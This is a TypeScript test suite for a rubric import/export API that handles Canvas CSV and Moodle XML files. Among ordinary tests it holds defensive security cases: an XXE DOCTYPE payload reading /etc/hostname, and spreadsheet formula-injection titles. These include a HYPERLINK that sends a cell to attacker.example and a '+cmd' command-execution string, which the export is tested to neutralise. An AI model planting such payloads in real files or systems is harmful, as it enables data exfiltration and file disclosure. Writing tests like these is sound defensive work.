import { readFileSync } from "node:fs";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { buildTestApp, scienceRubric, type TestApp } from "../helpers/test-app.js";
import { interchangeFixture } from "../helpers/interchange-fixtures.js";

let test: TestApp;
beforeEach(async () => {
  test = await buildTestApp();
});
afterEach(() => test.close());

const question = encodeURIComponent("Explain what the rubric assesses.");

function multipart(fieldName: string, filename: string, content: Buffer) {
  const boundary = "----rubric-interchange-test-boundary";
  const payload = Buffer.concat([
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="${fieldName}"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n`,
    ),
    content,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return { payload, headers: { "content-type": `multipart/form-data; boundary=${boundary}` } };
}

function importRequest(query: string, contentType: string, payload: string | Buffer) {
  return test.app.inject({
    method: "POST",
    url: `/v1/rubrics/import?${query}`,
    headers: { "content-type": contentType },
    payload,
  });
}

describe("POST /v1/rubrics/import", () => {
  it("imports a Canvas CSV as the raw body: 201 with the stored rubric and its warnings, 200 when unchanged", async () => {
    const file = interchangeFixture("canvas/import-template.csv");
    const created = await importRequest(
      `format=canvas-csv&id=canvas-template&question=${question}`,
      "text/csv",
      file,
    );
    expect(created.statusCode).toBe(201);
    const body = created.json();
    expect(body).toMatchObject({
      id: "canvas-template",
      title: "Rubric 1",
      language: "en",
      maxPoints: 3,
      criteria: [
        { id: "criteria-1", maxPoints: 2 },
        { id: "criteria-2", maxPoints: 1 },
      ],
    });
    expect(body.version).toMatch(/^[0-9a-f]{16}$/);
    expect(body.warnings).toEqual([
      { path: 'row 3 rating 2 "Criteria 2 Rating 2"', message: expect.stringContaining("merged") },
    ]);

    const stored = await test.app.inject({ method: "GET", url: "/v1/rubrics/canvas-template" });
    expect(stored.json()).toMatchObject({ title: "Rubric 1", version: body.version });

    const again = await importRequest(
      `format=canvas-csv&id=canvas-template&question=${question}`,
      "text/csv",
      file,
    );
    expect(again.statusCode).toBe(200);
    expect(again.json().version).toBe(body.version);
  });

  it("imports a Moodle marking guide from a multipart file, with title and language from the query", async () => {
    const upload = multipart("file", "grading.xml", interchangeFixture("moodle/edit-guide.grading.xml"));
    const response = await test.app.inject({
      method: "POST",
      url: `/v1/rubrics/import?format=moodle-guide&id=guide-a&question=${question}&title=Report&language=en-GB`,
      ...upload,
    });
    expect(response.statusCode).toBe(201);
    expect(response.json()).toMatchObject({
      id: "guide-a",
      title: "Report",
      language: "en-GB",
      maxPoints: 100,
    });
    expect(response.json().warnings.map((warning: { path: string }) => warning.path)).toContain(
      "guidecomments",
    );
  });

  it("imports a Canvas CSV saved as UTF-16 whether or not its Content-Type says charset=utf-16", async () => {
    // Regression: the file was imported without a charset, but refused with 415 "send UTF-8 text" when the
    // client labelled it correctly.
    const text = interchangeFixture("canvas/import-template.csv").toString("utf8");
    const littleEndian = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);
    const bigEndian = Buffer.from(text, "utf16le").swap16();
    const versions: string[] = [];
    for (const [contentType, body] of [
      ["text/csv", littleEndian],
      ["text/csv; charset=utf-16", littleEndian],
      ['text/csv; charset="UTF-16LE"', Buffer.from(text, "utf16le")],
      ["text/csv;charset=utf-16be", bigEndian],
      ["text/csv; charset=utf-16", bigEndian],
    ] as const) {
      const response = await importRequest(
        `format=canvas-csv&id=utf16-rubric&question=${question}`,
        contentType,
        body,
      );
      expect(response.statusCode, `${contentType}: ${response.body}`).toBeLessThan(300);
      expect(response.json()).toMatchObject({ title: "Rubric 1", maxPoints: 3 });
      versions.push(response.json().version);
    }
    expect(new Set(versions).size).toBe(1);
    // Other charsets are still refused, naming those that are read.
    const latin1 = await importRequest(
      `format=canvas-csv&id=utf16-rubric&question=${question}`,
      "text/csv; charset=iso-8859-1",
      Buffer.from(text, "latin1"),
    );
    expect(latin1.statusCode).toBe(415);
    expect(latin1.json().error.details[0]).toMatchObject({ path: "headers.content-type" });
    expect(latin1.json().error.message).toContain("utf-16");
  });

  it("imports a Moodle rubric sent as application/xml", async () => {
    const response = await importRequest(
      `format=moodle-rubric&id=moodle-a&question=${question}`,
      "application/xml",
      interchangeFixture("moodle/edit-rubric.grading.xml"),
    );
    expect(response.statusCode).toBe(201);
    expect(response.json()).toMatchObject({ title: "Assignment 1 rubric", maxPoints: 100 });
  });

  it.each([
    ["question, when missing", "format=canvas-csv&id=x", "querystring.question", "is required"],
    ["id, when missing", `format=canvas-csv&question=${question}`, "querystring.id", "is required"],
    // As every missing field says it (it said "Invalid option: expected one of …").
    ["format, when missing", `id=x&question=${question}`, "querystring.format", "is required"],
    [
      "format, when not one it takes",
      `format=csv&id=x&question=${question}`,
      "querystring.format",
      expect.stringContaining('"canvas-csv"'),
    ],
    [
      "id, when it is not a slug",
      `format=canvas-csv&id=Lab%20Report&question=${question}`,
      "querystring.id",
      expect.stringContaining("slug"),
    ],
    [
      "language, when it is not a tag",
      `format=canvas-csv&id=x&question=${question}&language=en_US`,
      "querystring.language",
      expect.stringContaining("BCP 47"),
    ],
  ])("answers 400 naming the option %s", async (_name, query, path, message) => {
    const response = await importRequest(query, "text/csv", interchangeFixture("canvas/import-template.csv"));
    expect(response.statusCode).toBe(400);
    expect(response.json().error).toMatchObject({ code: "invalid_request", details: [{ path, message }] });
  });

  it("answers 400 naming rubricName when the file holds several rubrics, and for an unknown parameter", async () => {
    const file = interchangeFixture("canvas/spec-multiple-rubrics.csv");
    const several = await importRequest(`format=canvas-csv&id=x&question=${question}`, "text/csv", file);
    expect(several.statusCode).toBe(400);
    expect(several.json().error).toMatchObject({
      code: "invalid_request",
      details: [
        { path: "querystring.rubricName", message: expect.stringContaining('"Rubric 1", "Rubric 2"') },
      ],
    });
    const chosen = await importRequest(
      `format=canvas-csv&id=x&question=${question}&rubricName=Rubric%202`,
      "text/csv",
      file,
    );
    expect(chosen.statusCode).toBe(201);

    const unknown = await importRequest(
      `format=canvas-csv&id=x&question=${question}&rubric=1`,
      "text/csv",
      file,
    );
    expect(unknown.statusCode).toBe(400);
    expect(unknown.json().error.details[0].path).toBe("querystring.rubric");
  });

  it("quotes a rubric name it cannot find with what a reader cannot see escaped", async () => {
    // Regression: the name was echoed raw, where a bidi override reordered the message around it.
    const file = interchangeFixture("canvas/spec-multiple-rubrics.csv");
    const response = await importRequest(
      `format=canvas-csv&id=x&question=${question}&rubricName=Rubric%E2%80%AE%202`,
      "text/csv",
      file,
    );
    expect(response.statusCode, response.body).toBe(400);
    expect(response.json().error.details[0]).toMatchObject({
      path: "querystring.rubricName",
      message: expect.stringContaining('no rubric "Rubric\\u202e 2" in the file'),
    });
  });

  it("chooses a rubric by a name that looks the same, whether its accents are composed or not", async () => {
    // Regression: rubricName=Cafe%CC%81 (NFD, as macOS file names and some forms send it) answered
    // 'no rubric "Café" in the file; it has "Café"'.
    const file =
      "Rubric Name,Criteria Name,Rating Name,Rating Points\n" +
      "Café,Sources,Good,2\nCafe\u0301 ,Style,Good,1\nTea,Other,Good,1\n";
    const several = await importRequest(`format=canvas-csv&id=x&question=${question}`, "text/csv", file);
    expect(several.json().error.details[0].message).toContain('2 rubrics ("Café", "Tea")');
    const chosen = await importRequest(
      `format=canvas-csv&id=x&question=${question}&rubricName=Cafe%CC%81`,
      "text/csv",
      file,
    );
    expect(chosen.statusCode, chosen.body).toBe(201);
    expect(chosen.json()).toMatchObject({ title: "Café", criteria: [{ id: "sources" }, { id: "style" }] });
  });

  it("reads Canvas header names past invisible characters, other spaces and fullwidth forms", async () => {
    // Regression: a zero-width space before "Rubric Name" made it an unknown column, and the import asked
    // for a title the file had.
    const response = await importRequest(
      `format=canvas-csv&id=x&question=${question}`,
      "text/csv",
      "\u200bRubric Name,Criteria\u00a0Name\u2060,Ｒａｔｉｎｇ Ｎａｍｅ,Rating Points\nLab,Sources,Good,2\n",
    );
    expect(response.statusCode, response.body).toBe(201);
    expect(response.json()).toMatchObject({
      title: "Lab",
      criteria: [{ id: "sources", maxPoints: 2 }],
      warnings: [],
    });
  });

  it("answers 400 naming the option when the file has no rubric name and no title is given", async () => {
    const response = await importRequest(
      `format=canvas-csv&id=x&question=${question}`,
      "text/csv",
      "Criteria Name,Rating Name,Rating Points\nC,Good,1\n",
    );
    expect(response.statusCode).toBe(400);
    expect(response.json().error.details).toEqual([
      {
        path: "querystring.title",
        message: "is required: the file gives the rubric no name; give it a title",
      },
    ]);
  });

  it("answers 400 invalid_rubric with the line for malformed CSV, naming the row for a bad cell", async () => {
    const header = "Rubric Name,Criteria Name,Rating Name,Rating Points";
    const malformed = await importRequest(
      `format=canvas-csv&id=x&question=${question}`,
      "text/csv",
      `${header}\nR,"C,Good,1\n`,
    );
    expect(malformed.statusCode).toBe(400);
    expect(malformed.json().error).toMatchObject({
      code: "invalid_rubric",
      details: [
        { path: "file", line: 2, message: expect.stringMatching(/^is not valid CSV \(Quote Not Closed/) },
      ],
    });

    const badPoints = await importRequest(
      `format=canvas-csv&id=x&question=${question}`,
      "text/csv",
      `${header}\nR,C,Good,1\nR,D,Fair,many\n`,
    );
    expect(badPoints.json().error).toMatchObject({
      code: "invalid_rubric",
      details: [{ path: "file", line: 3, message: 'row 3, rating "Fair": points "many" is not a number' }],
    });
    expect(badPoints.json().error.message).toContain("(line 3)");
  });

  it("ends rows at CRLF, LF or CR mixed in one file, keeping quoted line breaks as written", async () => {
    // Regression: the parser took the header's line ending for the whole file. After a CRLF header the LF
    // rows were one criterion, refused as 'points "2 Unit 1" is not a number'; after an LF header a CRLF
    // row kept a CR in its last cell, and a quoted last cell was refused as "Invalid Closing Quote".
    const header = "Rubric Name,Criteria Name,Criteria Description,Rating Name,Rating Points";
    const mixed = await importRequest(
      `format=canvas-csv&id=mixed-endings&question=${question}`,
      "text/csv",
      `${header}\r\n` +
        "Unit 1,Inputs,Names the inputs,Good,2\n" +
        "Unit 1,Outputs,Names the outputs,Good,1\r\n" +
        "Unit 1,Light,Says light drives it,Good,1\r" +
        'Unit 1,Place,"Two\nlines\r\nkept",Good,1\n',
    );
    expect(mixed.statusCode, mixed.body).toBe(201);
    expect(mixed.json()).toMatchObject({ title: "Unit 1", maxPoints: 5, warnings: [] });
    expect(
      mixed
        .json()
        .criteria.map((criterion: { title: string; description: string }) => [
          criterion.title,
          criterion.description,
        ]),
    ).toEqual([
      ["Inputs", "Names the inputs"],
      ["Outputs", "Names the outputs"],
      ["Light", "Says light drives it"],
      ["Place", "Two\nlines\r\nkept"],
    ]);

    const descriptionLast = "Rubric Name,Criteria Name,Rating Name,Rating Points,Criteria Description";
    const crlfRows = await importRequest(
      `format=canvas-csv&id=crlf-rows&question=${question}`,
      "text/csv",
      `${descriptionLast}\n` +
        'Unit 2,Inputs,Good,2,"Names light, water and carbon dioxide"\r\n' +
        "Unit 2,Outputs,Good,1,Names glucose\r\n",
    );
    expect(crlfRows.statusCode, crlfRows.body).toBe(201);
    expect(crlfRows.json()).toMatchObject({
      title: "Unit 2",
      criteria: [
        { title: "Inputs", description: "Names light, water and carbon dioxide" },
        { title: "Outputs", description: "Names glucose" },
      ],
    });

    // Lines are counted at every ending, a quoted line break included.
    const badPoints = await importRequest(
      `format=canvas-csv&id=x&question=${question}`,
      "text/csv",
      `${header}\r\nUnit 1,Inputs,"Two\nlines",Good,2\nUnit 1,Outputs,Names,Good,many\r`,
    );
    expect(badPoints.json().error).toMatchObject({
      code: "invalid_rubric",
      details: [{ path: "file", line: 4, message: 'row 3, rating "Good": points "many" is not a number' }],
    });
  });

  it("answers 400 invalid_rubric for what the rubric format refuses, at the criterion's row", async () => {
    const ratings = Array.from({ length: 13 }, (_, index) => `Level ${index},,${index}`).join(",");
    const header = `Rubric Name,Criteria Name,${Array.from({ length: 13 }, () => "Rating Name,Rating Description,Rating Points").join(",")}`;
    const response = await importRequest(
      `format=canvas-csv&id=x&question=${question}`,
      "text/csv",
      `${header}\nR,Fine,A,,1\nR,Too many,${ratings}\n`,
    );
    expect(response.statusCode).toBe(400);
    expect(response.json().error).toMatchObject({
      code: "invalid_rubric",
      details: [expect.objectContaining({ path: "criteria[1].levels", line: 3 })],
    });
  });

  it("answers 400 invalid_rubric for a control character in a text, as a rubric upload does", async () => {
    // Regression: a Canvas CSV cell with an escape sequence, or a Moodle definition with a C1 control
    // (XML 1.0 allows &#x85;), was imported and stored as it was.
    const csv = await importRequest(
      `format=canvas-csv&id=x&question=${question}`,
      "text/csv",
      'Rubric Name,Criteria Name,Rating Name,Rating Points\nR,Sources,Good,1\nR,"Style\u001b[8m",Good,1\n',
    );
    expect(csv.statusCode, csv.body).toBe(400);
    expect(csv.json().error).toMatchObject({
      code: "invalid_rubric",
      // A criterion without a description has its name as one.
      details: ["criteria[1].title", "criteria[1].description"].map((path) => ({
        path,
        message: "cannot contain U+001B (a control character; tabs and line breaks are fine)",
        line: 3,
        column: 1,
      })),
    });
    const xml = interchangeFixture("moodle/edit-rubric.grading.xml")
      .toString("utf8")
      .replace("<definition>Level 11</definition>", "<definition>Level &#x85;11</definition>");
    const moodle = await importRequest(
      `format=moodle-rubric&id=x&question=${question}`,
      "application/xml",
      xml,
    );
    expect(moodle.statusCode, moodle.body).toBe(400);
    expect(moodle.json().error).toMatchObject({
      code: "invalid_rubric",
      details: [
        expect.objectContaining({
          path: "criteria[0].levels[0].description",
          message: "cannot contain U+0085 (a control character; tabs and line breaks are fine)",
          // The criterion's line: where the import locates what is inside it.
          line: 22,
        }),
      ],
    });
    expect((await test.app.inject({ method: "GET", url: "/v1/rubrics" })).json().rubrics).toEqual([]);
  });

  it("refuses negative Moodle levels and XML with a DOCTYPE (XXE) with 400 invalid_rubric and the line", async () => {
    const negative = await importRequest(
      `format=moodle-rubric&id=x&question=${question}`,
      "application/xml",
      interchangeFixture("moodle/negative-points.grading.xml"),
    );
    expect(negative.statusCode).toBe(400);
    expect(negative.json().error).toMatchObject({
      code: "invalid_rubric",
      details: [{ path: "criterion[id=1].level[id=1].score", line: 27 }],
    });

    const xxe = `<?xml version="1.0"?>\n<!DOCTYPE areas [<!ENTITY e SYSTEM "file:///etc/hostname">]>\n<areas>&e;</areas>`;
    const refused = await importRequest(`format=moodle-rubric&id=x&question=${question}`, "text/xml", xxe);
    expect(refused.statusCode).toBe(400);
    expect(refused.json().error).toMatchObject({
      code: "invalid_rubric",
      details: [{ path: "file", line: 2 }],
    });
    expect(refused.json().error.details[0].message).toContain("DOCTYPE declaration, which is refused");
  });

  it("refuses a character reference to a character XML does not allow (a lone surrogate), with its line", async () => {
    const xml = interchangeFixture("moodle/edit-rubric.grading.xml")
      .toString("utf8")
      .replace("<definition>Level 11</definition>", "<definition>Level &#xD800;11</definition>");
    const response = await importRequest(
      `format=moodle-rubric&id=x&question=${question}`,
      "application/xml",
      xml,
    );
    expect(response.statusCode).toBe(400);
    expect(response.json().error).toMatchObject({
      code: "invalid_rubric",
      details: [{ path: "file", line: 29, message: expect.stringContaining("&#xD800;") }],
    });
  });

  it("lists at most 100 warnings, and names the settings of a Moodle definition as every path names a key", async () => {
    // Regression: a warning for each setting of the definition's options and each unknown element, with the
    // setting's value quoted whole: 95,000 settings in a 1 MB file made a 15 MB answer, and a key "a.b"
    // read as two keys and a bidi override in a value was shown raw.
    const xml = interchangeFixture("moodle/edit-rubric.grading.xml").toString("utf8");
    const settings: Record<string, unknown> = { "a.b": "\u202eon", sortlevelsasc: "x".repeat(5_000) };
    for (let index = 0; index < 1_000; index++) settings[`setting${index}`] = index;
    let unknown = "";
    for (let index = 0; index < 500; index++) unknown += `<extra${index}/>`;
    const file = xml
      .replace(/<options>[^<]*<\/options>/, `<options>${JSON.stringify(settings)}</options>`)
      .replace("<options>", `${unknown}<options>`);
    const response = await importRequest(
      `format=moodle-rubric&id=many-warnings&question=${question}`,
      "application/xml",
      file,
    );
    expect(response.statusCode, response.body.slice(0, 300)).toBe(201);
    const { warnings } = response.json<{ warnings: { path: string; message: string }[] }>();
    expect(warnings).toHaveLength(101);
    expect(warnings.at(-1)).toEqual({
      path: "file",
      message: expect.stringMatching(/^has \d+ more warnings, not listed \(\d+ in all; the first 100 are\)$/),
    });
    expect(warnings).toContainEqual({
      path: 'definition.options["a.b"]',
      message: expect.stringMatching(/^"\\u202eon" \(/),
    });
    const long = warnings.find((warning) => warning.path === "definition.options.sortlevelsasc");
    expect(long?.message.length).toBeLessThan(300);
    expect(warnings).toContainEqual({
      path: "definition.options",
      message: "has 982 more settings (1002 in all; Moodle writes about ten): not imported",
    });
  });

  it("answers 415 for other media types and 400 for an empty body or a multipart file not in `file`", async () => {
    const json = await importRequest(`format=canvas-csv&id=x&question=${question}`, "application/json", "{}");
    expect(json.statusCode).toBe(415);
    const empty = await test.app.inject({
      method: "POST",
      url: `/v1/rubrics/import?format=canvas-csv&id=x&question=${question}`,
      headers: { "content-type": "text/csv" },
    });
    expect(empty.statusCode).toBe(400);
    expect(empty.json().error.details).toEqual([{ path: "body", message: "is required" }]);
    const wrongField = await test.app.inject({
      method: "POST",
      url: `/v1/rubrics/import?format=canvas-csv&id=x&question=${question}`,
      ...multipart("rubric", "r.csv", interchangeFixture("canvas/import-template.csv")),
    });
    expect(wrongField.statusCode).toBe(400);
    expect(wrongField.json().error.details).toEqual([
      { path: "body.rubric", message: "is not a known field: send the LMS file in the field `file`" },
    ]);
  });

  it("answers 413 for a file over 1 MiB", async () => {
    const response = await importRequest(
      `format=canvas-csv&id=x&question=${question}`,
      "text/csv",
      Buffer.alloc(1024 * 1024 + 10, 0x61),
    );
    expect(response.statusCode).toBe(413);
  });
});

describe("GET /v1/rubrics/:id/export", () => {
  it("answers the Canvas CSV as an attachment, with the warnings in headers; importing it back gives the same criteria", async () => {
    await test.app.inject({ method: "POST", url: "/v1/rubrics", payload: scienceRubric });
    const response = await test.app.inject({
      method: "GET",
      url: "/v1/rubrics/photosynthesis-basics/export?format=canvas-csv",
    });
    expect(response.statusCode).toBe(200);
    expect(response.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(response.headers["content-disposition"]).toBe('attachment; filename="photosynthesis-basics.csv"');
    const warnings = JSON.parse(response.headers["x-rubric-export-warnings"] as string);
    expect(Number(response.headers["x-rubric-export-warning-count"])).toBe(warnings.length);
    expect(warnings.map((warning: { path: string }) => warning.path)).toEqual([
      "id",
      "question",
      "language",
      "referenceAnswer",
      "criteria[1]",
    ]);
    expect(response.body.split("\n")[0]).toBe(
      "Rubric Name,Criteria Name,Criteria Description,Criteria Enable Range,Rating Name,Rating Description,Rating Points,Rating Name,Rating Description,Rating Points",
    );

    // Not the same version (the reference answer stays behind), but the same criteria and points.
    const back = await importRequest(
      `format=canvas-csv&id=from-canvas&question=${question}`,
      "text/csv",
      response.body,
    );
    expect(back.statusCode).toBe(201);
    expect(back.json().criteria).toEqual(scienceRubric.criteria);
  });

  it("writes a title a spreadsheet would run as a formula with a leading apostrophe, and says so", async () => {
    const formula = '=HYPERLINK("https://attacker.example/?"&B2,"Open")';
    await test.app.inject({
      method: "POST",
      url: "/v1/rubrics",
      payload: { ...scienceRubric, title: formula },
    });
    const response = await test.app.inject({
      method: "GET",
      url: "/v1/rubrics/photosynthesis-basics/export?format=canvas-csv",
    });
    expect(response.statusCode).toBe(200);
    expect(response.body.split("\n")[1]!.startsWith(`"'=HYPERLINK(`)).toBe(true);
    const warnings = JSON.parse(response.headers["x-rubric-export-warnings"] as string);
    expect(warnings).toContainEqual({
      path: "title",
      message: expect.stringContaining("leading apostrophe"),
    });

    const back = await importRequest(
      `format=canvas-csv&id=guarded&question=${question}`,
      "text/csv",
      response.body,
    );
    expect(back.statusCode).toBe(201);
    expect(back.json().title).toBe(formula);
  });

  it("guards a formula behind an invisible character or in fullwidth form too, and reads it back", async () => {
    // Regression: only = + - @ as the very first character were guarded; CJK Excel reads "＝" as "=", and a
    // zero-width space in front hid a formula from the guard (the grades CSV export is guarded the same way).
    const title = '＝HYPERLINK("https://attacker.example/")';
    const criterionTitle = "\u200b+cmd|' /C calc'!A0";
    const criteria = [{ ...scienceRubric.criteria[0]!, title: criterionTitle }, scienceRubric.criteria[1]!];
    await test.app.inject({
      method: "POST",
      url: "/v1/rubrics",
      payload: { ...scienceRubric, title, criteria },
    });
    const response = await test.app.inject({
      method: "GET",
      url: "/v1/rubrics/photosynthesis-basics/export?format=canvas-csv",
    });
    expect(response.statusCode).toBe(200);
    const row = response.body.split("\n")[1]!;
    expect(row.startsWith(`"'＝HYPERLINK(`)).toBe(true);
    expect(row).toContain(`'\u200b+cmd`);
    const warnings = JSON.parse(response.headers["x-rubric-export-warnings"] as string) as { path: string }[];
    expect(warnings.map((warning) => warning.path)).toEqual(
      expect.arrayContaining(["title", "criteria[0].title"]),
    );
    const back = await importRequest(
      `format=canvas-csv&id=guarded&question=${question}`,
      "text/csv",
      response.body,
    );
    expect(back.statusCode, back.body).toBe(201);
    expect(back.json()).toMatchObject({ title, criteria: [{ title: criterionTitle }, { title: "Outputs" }] });
  });

  it("answers the Moodle formats as XML, for an older version too", async () => {
    const first = (
      await test.app.inject({ method: "POST", url: "/v1/rubrics", payload: scienceRubric })
    ).json();
    await test.app.inject({
      method: "POST",
      url: "/v1/rubrics",
      payload: { ...scienceRubric, title: "Revised" },
    });
    const rubric = await test.app.inject({
      method: "GET",
      url: `/v1/rubrics/photosynthesis-basics/export?format=moodle-rubric&version=${first.version}`,
    });
    expect(rubric.statusCode).toBe(200);
    expect(rubric.headers["content-type"]).toBe("application/xml; charset=utf-8");
    expect(rubric.headers["content-disposition"]).toBe(
      'attachment; filename="photosynthesis-basics.moodle-rubric.xml"',
    );
    expect(rubric.body).toContain("<name>Photosynthesis basics</name>");
    const guide = await test.app.inject({
      method: "GET",
      url: "/v1/rubrics/photosynthesis-basics/export?format=moodle-guide",
    });
    expect(guide.body).toContain("<name>Revised</name>");
    expect(guide.body).toContain("<plugin_gradingform_guide_definition>");
  });

  it("writes warnings about non-ASCII text as ASCII JSON, and the file itself in UTF-8", async () => {
    const persian = readFileSync(new URL("../../rubrics/fa-water-cycle.yaml", import.meta.url), "utf8");
    const uploaded = await test.app.inject({
      method: "POST",
      url: "/v1/rubrics",
      headers: { "content-type": "application/yaml" },
      payload: persian,
    });
    const { id, title } = uploaded.json();
    const response = await test.app.inject({
      method: "GET",
      url: `/v1/rubrics/${id}/export?format=canvas-csv`,
    });
    const header = response.headers["x-rubric-export-warnings"] as string;
    expect(header).toMatch(/^[\x20-\x7e]*$/);
    expect(
      JSON.parse(header).some((warning: { message: string }) => warning.message.includes("criterion-1")),
    ).toBe(true);
    expect(response.body).toContain(title);
  });

  it("answers 404 for an unknown rubric or version, 400 for an unknown format or what a format cannot express", async () => {
    expect(
      (await test.app.inject({ method: "GET", url: "/v1/rubrics/nope/export?format=canvas-csv" })).statusCode,
    ).toBe(404);
    await test.app.inject({ method: "POST", url: "/v1/rubrics", payload: scienceRubric });
    const version = await test.app.inject({
      method: "GET",
      url: "/v1/rubrics/photosynthesis-basics/export?format=canvas-csv&version=0000",
    });
    expect(version.statusCode).toBe(404);
    const format = await test.app.inject({
      method: "GET",
      url: "/v1/rubrics/photosynthesis-basics/export?format=blackboard",
    });
    expect(format.statusCode).toBe(400);
    expect(format.json().error.details[0].path).toBe("querystring.format");

    const wide = {
      ...scienceRubric,
      id: "wide",
      criteria: [{ ...scienceRubric.criteria[1], maxPoints: 40 }],
    };
    await test.app.inject({ method: "POST", url: "/v1/rubrics", payload: wide });
    const cannot = await test.app.inject({
      method: "GET",
      url: "/v1/rubrics/wide/export?format=moodle-rubric",
    });
    expect(cannot.statusCode).toBe(400);
    expect(cannot.json().error).toMatchObject({
      code: "invalid_request",
      details: [{ path: "criteria[0]", message: expect.stringContaining("format=moodle-guide") }],
    });
  });
});
